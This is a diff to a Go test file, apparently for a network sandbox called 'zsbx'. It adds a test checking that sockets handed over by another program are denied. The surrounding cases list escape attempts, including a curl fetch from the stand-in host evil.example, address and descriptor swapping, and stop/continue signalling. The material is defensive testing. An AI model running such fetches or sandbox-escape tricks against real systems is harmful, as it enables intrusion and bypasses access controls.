@@ -42,6 +42,7 @@ var hostsAttacks = []hostsAttack{
 	{name: "nested, without the promise", script: "zsbx run --rw . --fallback warn --allow-gap hosts --allow-host evil.example:80 -- " +
 		"curl -sS http://evil.example/x"},
 	{name: "sockets that are inherited", script: "ACT pass", bad: "udp |tcp "},
+	{name: "sockets that another program passes on", script: "ACT giver", bad: "tcp ", want: "denied|not permitted"},
 	{name: "an address that changes", script: "ACT flip 300", bad: `at 198\.51\.100\.66`, hosts: "four.example:80", want: "[1-9][0-9]* connections"},
 	{name: "a descriptor that changes", script: "ACT swap 300", bad: `at 198\.51\.100\.66`, hosts: "four.example:80", want: "swapped"},
 
@@ -176,6 +177,8 @@ func TestHostsAttacks(t *testing.T) {
 			switch a.script {
 			case "ACT pass":
 				script = "ACT pass ZSBX -- "
+			case "ACT giver":
+				script = "ACT giver ZSBX --unix . -- "
 			case "ACT stubborn":
 				script = "ZSBX -- ACT stubborn & p=$!; sleep 0.4; kill -STOP $p; sleep 0.3; kill -CONT $p; sleep 0.2; kill -9 $p; sleep 1; echo end"
 			}
